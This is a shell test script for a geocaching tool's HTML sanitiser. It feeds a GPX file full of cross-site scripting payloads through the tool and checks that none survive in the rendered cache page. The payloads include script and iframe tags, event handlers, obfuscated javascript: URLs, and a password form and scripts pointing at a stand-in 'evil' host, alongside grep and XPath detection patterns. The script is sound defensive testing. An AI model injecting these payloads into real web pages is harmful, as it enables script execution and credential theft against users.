#!/usr/bin/env bash
# A pocket query whose descriptions hold every kind of active content, in
# upper and mixed case, entity-split and unquoted, imported and rendered: the
# page files hold none of it, read by an HTML parser other than ours, and the
# owner's formatting stays.
set -euo pipefail
tool="$HIKEWISE_BIN_DIR/hikewise-tool"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

cat > "$work/pq.gpx" <<'GPX'
<?xml version="1.0" encoding="utf-8"?>
<gpx version="1.0" creator="test" xmlns="http://www.topografix.com/GPX/1/0">
  <wpt lat="46.5" lon="-73.25">
    <time>2002-08-15T00:00:00</time>
    <name>GCBAD1</name>
    <sym>Geocache</sym>
    <type>Geocache|Traditional Cache</type>
    <groundspeak:cache id="1" available="True" archived="False" xmlns:groundspeak="http://www.groundspeak.com/cache/1/0">
      <groundspeak:name>Hostile</groundspeak:name>
      <groundspeak:placed_by>Mallory</groundspeak:placed_by>
      <groundspeak:type>Traditional Cache</groundspeak:type>
      <groundspeak:short_description html="True">&lt;P ALIGN=center&gt;&lt;B&gt;Short&lt;/B&gt;&lt;SCRIPT&gt;alert(1)&lt;/SCRIPT&gt;&lt;IMG SRC=a.jpg OnError=alert(2)&gt;&lt;/P&gt;</groundspeak:short_description>
      <groundspeak:long_description html="True">&lt;p&gt;Owner text &lt;a href="http://www.example.org/"&gt;site&lt;/a&gt;&lt;/p&gt;
&lt;ScRiPt src=//evil/x.js&gt;&lt;/sCrIpT&gt;&lt;iframe src=http://evil/&gt;&lt;/iframe&gt;&lt;IFRAME SRC="http://evil/"&gt;&lt;/IFRAME&gt;
&lt;meta http-equiv="refresh" content="0;url=http://evil/"&gt;&lt;META HTTP-EQUIV=Refresh CONTENT=0&gt;
&lt;a href="jav&amp;#x61;script:alert(3)"&gt;one&lt;/a&gt;&lt;a href=JAVASCRIPT:alert(4)&gt;two&lt;/a&gt;&lt;a href="java&amp;Tab;script:alert(5)"&gt;three&lt;/a&gt;
&lt;a href="data:text/html;base64,PHNjcmlwdD4="&gt;four&lt;/a&gt;&lt;img src="vbscript:x"&gt;
&lt;body onload=alert(6)&gt;&lt;div onmouseover="alert(7)" style="color:green"&gt;hover&lt;/div&gt;
&lt;object data=x.swf&gt;&lt;embed src=x.swf&gt;&lt;/object&gt;&lt;applet code=X&gt;&lt;/applet&gt;&lt;base href=http://evil/&gt;&lt;link rel=stylesheet href=http://evil/x.css&gt;
&lt;form action=http://evil/&gt;&lt;input name=pw&gt;&lt;button&gt;Send&lt;/button&gt;&lt;/form&gt;
&lt;style&gt;@import url(http://evil/x.css);&lt;/style&gt;&lt;style&gt;p{width:expression(alert(8))}&lt;/style&gt;
&lt;p style="background:url(javascript:alert(9))"&gt;styled&lt;/p&gt;&lt;svg onload=alert(10)&gt;&lt;/svg&gt;
&lt;img src=x onerror=alert(11)</groundspeak:long_description>
      <groundspeak:encoded_hints>none</groundspeak:encoded_hints>
    </groundspeak:cache>
  </wpt>
</gpx>
GPX

"$tool" wpt-import "$work/db.wpt" "$work/pq.gpx" >/dev/null
"$tool" geocache-page "$work/db.wpt" GCBAD1 "$work/html" > /dev/null
page="$work/html/gc.htm"
grep -q 'Owner text <a href="http://www.example.org/">site</a>' "$page"
grep -q '<P ALIGN=center><B>Short</B><IMG SRC=a.jpg></P>' "$page"
grep -q '<div style="color:green">hover</div>' "$page"
grep -q 'Send' "$page"

# Nothing active by plain text, in any case (the page's own policy and style
# sheet aside).
if grep -v -F -e '<meta http-equiv="Content-Security-Policy"' -e '<link rel="stylesheet" href="page.css">' "$page" \
    | grep -i -n -E '<(script|iframe|object|embed|applet|base|form|input|button|link|svg)|http-equiv|javascript|vbscript|data:text|expression|@import|alert\('; then
  echo "active content left in $page"; exit 1
fi
# Nor by what libxml2's HTML parser makes of the page: the page's own three
# meta elements (its policy the one with http-equiv) and its style sheet are
# all there is of the kind, and no attribute is a handler.
expect() {
  local n
  n=$(xmllint --html --xpath "count($1)" "$page" 2>/dev/null)
  [ "$n" = "$2" ] || { echo "$1: $n, expected $2"; exit 1; }
}
expect '//script|//iframe|//object|//embed|//applet|//form|//base|//input|//svg' 0
expect '//link' 1
expect '//link[@href="page.css"]' 1
expect '//meta' 3
expect '//meta[@http-equiv]' 1
expect '//meta[@http-equiv="Content-Security-Policy"]' 1
expect '//@*[starts-with(translate(name(),"ON","on"),"on")]' 0
expect '//@*[contains(translate(.,"JAVSCRIPT","javscript"),"javascript")]' 0
echo "hostile pocket query rendered without active content"
